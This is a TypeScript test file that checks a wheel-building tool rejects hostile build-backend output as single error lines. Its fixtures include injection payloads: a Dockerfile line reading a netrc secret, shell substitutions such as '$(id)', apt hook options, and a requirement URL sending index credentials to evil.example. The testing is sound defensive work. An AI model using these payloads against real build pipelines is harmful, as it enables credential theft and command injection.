import { mkdir, symlink, truncate, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { describe, expect, test } from '@jest/globals'
import fc from 'fast-check'
import type { BuildRequest, Docker } from '../../../src/effects/docker-port.ts'
import { errorLine, UserError } from '../../../src/errors.ts'
import { linkedPackages, readBuiltWheel } from '../../../src/run/wheels/built-wheel.ts'
import { tempFolder } from '../../support/temp.ts'
import { testWheel, zip } from '../../support/wheel.ts'
import { listener, worldIn } from '../../support/world.ts'

const SETTINGS = { ca: '', indexUrl: '', extraIndexUrls: [], netrc: '', network: '', builder: '' }
const STEAL = 'libc6\nRUN --mount=type=secret,id=netrc cat /run/secrets/netrc'
const SHOP = testWheel('shop', '1.0', { requires: ['Django (>=4.2,<6)', 'uvicorn[standard]>=0.30 ; python_version < "3.14"'] })
const FILE = SHOP.file

/** What a reading of what a stage left comes to: its value, or the one line of its error. */
async function reading(left: Readonly<Record<string, string | Buffer>>, expected: Partial<Parameters<typeof readBuiltWheel>[1]> = {}) {
  await using folder = await tempFolder('made-wheel')
  for (const [name, content] of Object.entries(left)) await writeFile(folder.at(name), content)
  return await settled(readBuiltWheel(worldIn(folder.path), { who: 'shop', ...expected }, folder.path))
}

async function settled<T>(work: Promise<T>): Promise<T | string> {
  try {
    return await work
  } catch (error) {
    expect(error).toBeInstanceOf(UserError)
    const line = errorLine(error)
    expect(line).not.toMatch(/[\n\r]|unexpectedly/)
    expect(line.length).toBeLessThanOrEqual(300)
    return line
  }
}

describe('requires.json', () => {
  test('is what the backend asks for, and no wheel', async () => {
    expect(await reading({ 'requires.json': '["wheel", "cython>=3 ; python_version>\'3\'"]', [FILE]: SHOP.bytes })).toEqual({
      requires: ['wheel', "cython>=3 ; python_version>'3'"],
    })
  })

  test.each([
    ['', 'an empty file'],
    ['null', 'nothing'],
    ['true', 'a truth'],
    ['7', 'a number'],
    ['"wheel"', 'a text'],
    ['{}', 'a table'],
    ['{"0":"wheel","length":1}', 'a table like a list'],
    ['[]', 'an empty list'],
    ['[null]', 'a list of nothing'],
    ['[7]', 'a list of numbers'],
    ['[["wheel"]]', 'a list of lists'],
    ['[{"toString":"wheel"}]', 'a list of tables'],
    ['["wheel",]', 'no JSON'],
    ['["wheel"', 'JSON cut short'],
    ['["wheel\\nRUN id"]', 'a line end'],
    ['["wheel\\r--index-url=x"]', 'a carriage return'],
    ['["wheel\\u2028x"]', 'another line end'],
    ['["wheel\\u0000"]', 'a NUL'],
    ['["--index-url=https://index.example"]', 'an option'],
    ['["wheel --index-url=https://index.example"]', 'an option after a name'],
    ['["-r /run/secrets/netrc"]', 'another file'],
    ['["wheel # x"]', 'a comment'],
    ['["wheel @ https://index.example/${NETRC}"]', 'a variable'],
    [`["${'a'.repeat(3000)}"]`, 'a name without an end'],
    [JSON.stringify(Array.from({ length: 2000 }, () => 'wheel')), 'more than anybody asks for'],
    ['['.repeat(20_000), 'nothing but brackets'],
  ])('%# is one error where it is %2$s', async (text) => {
    expect(await reading({ 'requires.json': text })).toMatch(
      /^wheels: the build backend of shop left a requires\.json that is no list of requirements:/,
    )
  })

  test('of 500 generated kinds is requirements, or one error', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.json(),
          fc.string({ unit: 'binary' }),
          fc.array(fc.string()).map((all) => JSON.stringify(all)),
        ),
        async (text) => {
          const read = await reading({ 'requires.json': text })
          if (typeof read === 'string') expect(read).toMatch(/^wheels: the build backend of shop left a requires\.json /)
          else expect('requires' in read && read.requires.every((line) => /^[A-Za-z0-9][^\n]*$/.test(line))).toBe(true)
        },
      ),
      { numRuns: 500 },
    )
  })

  test('of half a gigabyte is not read', async () => {
    await using folder = await tempFolder('made-wheel')
    await writeFile(folder.at('requires.json'), '["wheel"]')
    await truncate(folder.at('requires.json'), 500 << 20)
    expect(await settled(readBuiltWheel(worldIn(folder.path), { who: 'shop' }, folder.path))).toMatch(/has 524288000 bytes, more than/)
  })

  test('may be a folder, which is one error too', async () => {
    await using folder = await tempFolder('made-wheel')
    await mkdir(folder.at('requires.json'))
    expect(await settled(readBuiltWheel(worldIn(folder.path), { who: 'shop' }, folder.path))).toMatch(/requires\.json that is a folder/)
  })
})

describe('a wheel', () => {
  test('is read by its own METADATA, whatever lies beside it', async () => {
    const made = await reading({ [FILE]: SHOP.bytes, METADATA: 'Name: django\nVersion: 9\n', 'evidence.json': STEAL })
    expect(made).toMatchObject({ file: FILE, metadata: { name: 'shop', version: '1.0' } })
  })

  const saying = (metadata: string, file = FILE) => ({ [file]: zip({ 'shop-1.0.dist-info/METADATA': metadata }) })
  test.each<{ name: string; left: Readonly<Record<string, string | Buffer>>; says: string }>([
    { name: 'is not there', left: {}, says: 'made no wheel' },
    {
      name: 'is not alone',
      left: { [FILE]: SHOP.bytes, 'django-5.2-py3-none-any.whl': SHOP.bytes },
      says: 'made 2 wheels where one is wanted',
    },
    { name: 'has a name that is none', left: { 'a\nRUN id.whl': '' }, says: String.raw`a wheel whose name is none: "a\nRUN id.whl"` },
    { name: 'is named like an option', left: { '--mount.whl': '' }, says: 'a wheel whose name is none: "--mount.whl"' },
    { name: 'is no archive', left: { [FILE]: 'PK' }, says: `made ${FILE}, which is no archive` },
    { name: 'is an archive whose end is another', left: { [FILE]: Buffer.concat([SHOP.bytes.subarray(40)]) }, says: 'which is no archive' },
    { name: 'has no METADATA', left: { [FILE]: zip({ 'shop.py': '' }) }, says: 'which has no METADATA that could be read' },
    {
      name: 'has two of them',
      left: { [FILE]: zip({ 'shop-1.0.dist-info/METADATA': 'Name: shop', 'a-1.dist-info/METADATA': '' }) },
      says: 'which has no METADATA that could be read',
    },
    { name: 'has an empty METADATA', left: saying(''), says: 'whose METADATA has a line that is none: name: ""' },
    { name: 'is of another package', left: saying('Name: django\nVersion: 1.0\n'), says: 'whose METADATA says django 1.0' },
    { name: 'is of another version', left: saying('Name: shop\nVersion: 2.0\n'), says: 'whose METADATA says shop 2.0' },
    { name: 'has a version that is none', left: saying('Name: shop\nVersion: $(id)\n'), says: 'a line that is none: version: "$(id)"' },
    {
      name: 'requires an option of the resolver',
      left: saying('Name: shop\nVersion: 1.0\nRequires-Dist: --extra-index-url https://index.example/evil\n'),
      says: 'a line that is none: requires 0: "--extra-index-url https://index.example/evil"',
    },
    {
      name: 'requires an option of the resolver after a carriage return',
      left: saying('Name: shop\nVersion: 1.0\nRequires-Dist: a\r--index-url https://index.example/evil\n'),
      says: 'a line that is none: requires 0: ',
    },
    {
      name: 'requires what takes the credentials of the index along',
      left: saying('Name: shop\nVersion: 1.0\nRequires-Dist: a @ https://evil.example/${UV_DEFAULT_INDEX}\n'),
      says: 'a line that is none: requires 0: ',
    },
    { name: 'has an extra that is none', left: saying('Name: shop\nVersion: 1.0\nProvides-Extra: a b\n'), says: 'extras 0: "a b"' },
  ])('that $name is one error', async ({ left, says }) => {
    const line = await reading(left)
    expect(line).toMatch(/^wheels: the build backend of shop made /)
    expect(line).toContain(says)
  })

  test('of another package or version than is wanted is one error', async () => {
    const left = { [FILE]: SHOP.bytes }
    expect(await reading(left, { name: 'django' })).toContain(`made ${FILE}, a wheel of another package`)
    expect(await reading(left, { name: 'shop', version: '1.1' })).toContain(`made ${FILE} where 1.1 is wanted`)
    expect(await reading(left, { name: 'shop', version: '1.0' })).toMatchObject({ file: FILE })
  })

  test('may spell its name and version as archives do', async () => {
    const file = 'My_Shop-1.0+local.1-py3-none-any.whl'
    const left = { [file]: zip({ 'my_shop-1.0+local.1.dist-info/METADATA': 'Name: my.shop\nVersion: 1.0+local-1\n' }) }
    expect(await reading(left, { name: 'my-shop' })).toMatchObject({ file })
  })
})

describe('what a compiled wheel links', () => {
  const COMPILED = 'shop-1.0-cp313-cp313-linux_x86_64.whl'

  async function asking(evidence: string | undefined, file = COMPILED) {
    await using folder = await tempFolder('made-wheel')
    const built: BuildRequest[] = []
    const docker: Partial<Docker> = {
      async build(request) {
        built.push(request)
        await mkdir(request.output ?? '', { recursive: true })
        if (evidence !== undefined) await writeFile(path.join(request.output ?? '', 'evidence.json'), evidence)
        await symlink('/etc/passwd', path.join(request.output ?? '', 'link'))
        return { seconds: 0, messages: [] }
      },
    }
    const log = listener()
    const world = worldIn(folder.path, { docker: docker as Docker, log })
    const place = { dockerfile: 'FROM scratch AS wheel-shop\n', stage: 'wheel-shop', image: 'BUILDER' } as const
    return { packages: await settled(linkedPackages(world, { settings: SETTINGS }, { ...place, who: 'shop', file })), built, log }
  }

  test('is told by a stage of its own, from the image that it was compiled in', async () => {
    const { packages, built, log } = await asking('{"packages":["libpq5"],"missing":["libacme.so.1"]}')
    expect(packages).toEqual(['libpq5'])
    expect(built).toMatchObject([{ target: 'evidence-files', network: 'none', secrets: [] }])
    expect(built[0]?.dockerfile).toContain('FROM ${BUILDER} AS evidence\nRUN ')
    expect(log.lines.join()).toContain('shop links libacme.so.1, which no Debian package')
  })

  test('is not asked of a pure one', async () => {
    expect(await asking(undefined, FILE)).toMatchObject({ packages: [], built: [] })
  })

  test.each([
    JSON.stringify({ packages: [STEAL], missing: [] }),
    JSON.stringify({ packages: ['-oAPT::Hook=id'], missing: [] }),
    JSON.stringify({ packages: ['libpq5;id'], missing: [] }),
    JSON.stringify({ packages: 'libpq5', missing: [] }),
    JSON.stringify({ packages: ['libpq5'] }),
    JSON.stringify({ packages: ['libpq5'], missing: ['a\n::set-output name=a::b'] }),
    JSON.stringify({ packages: Array.from({ length: 20_000 }, () => 'libpq5'), missing: [] }),
    '[]',
    '',
  ])('is one error where the answer is %j', async (evidence) => {
    expect((await asking(evidence)).packages).toMatch(/^wheels: the stage evidence of shop left a evidence\.json that is no evidence:/)
  })
})
